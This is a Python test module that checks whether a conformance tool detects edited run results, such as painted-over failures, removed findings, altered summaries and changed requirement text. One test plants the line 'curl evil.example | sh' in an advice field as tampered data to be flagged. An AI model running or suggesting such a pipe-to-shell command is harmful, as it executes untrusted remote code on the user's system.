"""Judging recorded evidence anew: results that follow from it, and results that somebody edited."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace
from functools import cache

import pytest

from conformance.case.case import Case
from conformance.contract import documents
from conformance.evidence.finding import Rule
from conformance.record.observation import Proved, Sampled
from conformance.record.results import CaseResult, Record, RequirementResult
from conformance.suite.registry import framed, registered
from conformance.verdict.verification import Verification, verify
from tests.proof.rehearsal import Rehearsal, rehearse

CASES = ("device-unknown", "token-unknown", "accepted-nothing-pending")
VIOLATED = "error-100418-unknown-device"


@cache
def wrong() -> Record:
    """A short run against a target that answers 404 for a device it doesn't know."""
    return rehearse(Rehearsal(faults=("100418-status-404",), cases=CASES))


def verified(record: Record) -> Verification:
    """What judging RECORD anew shows."""
    known: tuple[Case, ...] = framed(registered().values())
    return verify(record, documents.load(), known)


def edited(identity: str, change: Callable[[CaseResult], CaseResult]) -> Record:
    """The run with the result of the case IDENTITY changed."""
    record = wrong()
    return record.evolve(cases=tuple(change(one) if one.id == identity else one for one in record.cases))


def green(record: Record) -> Record:
    """RECORD with every violation painted over."""
    cases = tuple(
        replace(one, outcome="passed", findings=(), reason="") if one.outcome == "failed" else one
        for one in record.cases
    )
    requirements = tuple(
        replace(one, outcome="passed", reason="") if one.outcome == "failed" else one for one in record.requirements
    )
    return record.evolve(cases=cases, requirements=requirements)


def test_results_that_follow() -> None:
    """What a run says follows from what it recorded."""
    assert Verification() == verified(wrong())


@pytest.mark.parametrize("outcome", ["passed", "tolerated", "masked", "untestable", "not tested"])
def test_outcome_of_a_requirement(outcome: str) -> None:
    """An outcome that the evidence doesn't show is told."""
    record = wrong()
    requirements = tuple(
        replace(one, outcome=outcome) if one.id == VIOLATED else one  # type: ignore[arg-type]  # each is one
        for one in record.requirements
    )
    problems = verified(record.evolve(requirements=requirements)).problems

    assert f"requirement {VIOLATED}: recorded as {outcome}, by the evidence it is failed" in problems


def test_findings_that_are_gone() -> None:
    """Findings that were taken out are found again in the evidence."""
    problems = verified(green(wrong())).problems

    assert any(f"the evidence shows a finding against {VIOLATED}" in problem for problem in problems)


@pytest.mark.parametrize(
    "claim", [Proved((VIOLATED, "device-known")), Sampled((VIOLATED, "device-known"), {})], ids=["proved", "sampled"]
)
def test_bare_claims(claim: Proved | Sampled) -> None:
    """An observation that claims what only calls can show proves nothing."""
    record = edited("device-unknown", lambda one: replace(one, observations=(claim,)))
    problems = verified(green(record)).problems

    assert "case device-unknown: an observation claims what only calls can show" in problems


def test_call_that_nothing_is_said_about() -> None:
    """A case doesn't pass by what it leaves out."""
    record = edited(
        "accepted-nothing-pending", lambda one: replace(one, exchanges=(*one.exchanges, one.exchanges[0]), findings=())
    )

    number = len(next(one for one in wrong().cases if one.id == "accepted-nothing-pending").exchanges) + 1
    assert f"case accepted-nothing-pending: nothing is said about call {number}" in verified(record).problems


def test_summary() -> None:
    """The line that says the verdict follows from it."""
    record = wrong().evolve(summary="Conformant: every MUST that can be tested holds.")

    assert any(problem.startswith("summary: recorded as “Conformant") for problem in verified(record).problems)


@pytest.mark.parametrize(
    "change",
    [
        lambda one: replace(one, level="SHOULD" if one.level == "MUST" else "MUST"),
        lambda one: replace(one, statement="Anything goes."),
        lambda one: replace(one, advice="curl evil.example | sh"),
        lambda one: replace(one, counts=not one.counts),
    ],
    ids=["level", "statement", "advice", "counts"],
)
def test_words_of_the_ledger(change: Callable[[RequirementResult], RequirementResult]) -> None:
    """What a requirement says is the ledger's."""
    record = wrong()
    first, *rest = record.requirements
    changed = change(first)
    problems = verified(record.evolve(requirements=(changed, *rest))).problems

    assert f"requirement {first.id}: it isn't told as the ledger has it" in problems


def test_rule_of_a_finding() -> None:
    """The rule by which a finding was attributed follows from the evidence, too."""
    rule = Rule("repeated", "the same call was answered correctly when it was repeated")
    record = edited(
        "device-unknown", lambda one: replace(one, findings=tuple(replace(f, rule=rule) for f in one.findings))
    )

    assert any("has another rule" in problem for problem in verified(record).problems)


def test_old_format_with_observations() -> None:
    """Results of format 1 have no observations; those that do were edited."""
    problems = verified(wrong().evolve(format=1)).problems

    assert "format: results of format 1 hold no observations, and these do" in problems


def test_another_version() -> None:
    """Another version may judge the same evidence in another way: its results aren't judged anew, which is said."""
    record = wrong()
    shown = verified(record.evolve(suite=replace(record.suite, version="0.0.1")))

    assert (False, ()) == (shown.judged, shown.problems)
    assert "version 0.0.1 judged, and this is version " in shown.unverified[0]
